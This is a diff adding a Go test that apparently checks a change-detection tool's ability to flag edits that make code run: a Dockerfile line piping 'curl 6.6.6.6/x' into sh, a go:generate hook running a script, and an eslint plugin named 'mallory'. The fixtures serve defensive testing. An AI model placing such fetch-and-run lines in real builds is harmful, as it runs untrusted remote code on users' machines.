@@ -135,3 +135,10 @@ func TestAProgramThatSettingsLoadIsNamed(t *testing.T) {
 	require.Empty(t, found(changed("a.csproj", "<Import Project=\"a.1.2.3.props\"/>\n",
 		"<Import Project=\"a.1.2.4.props\"/>\n")))
 }
+
+func TestAnotherAddressIsNoOtherVersion(t *testing.T) {
+	t.Parallel()
+	require.Len(t, only(Runs, changed("Dockerfile", "RUN curl 10.0.0.1/x | sh\n", "RUN curl 6.6.6.6/x | sh\n")), 1)
+	require.Len(t, only(Runs, changed("a.go", "package a\n", "package a\n//go:generate\tsh a.sh\n")), 1)
+	require.Len(t, only(Runs, changed(".eslintrc.yml", "a: 1\r\n", "a: 1\r\nplugins:\r\n  - mallory\r\n")), 1)
+}
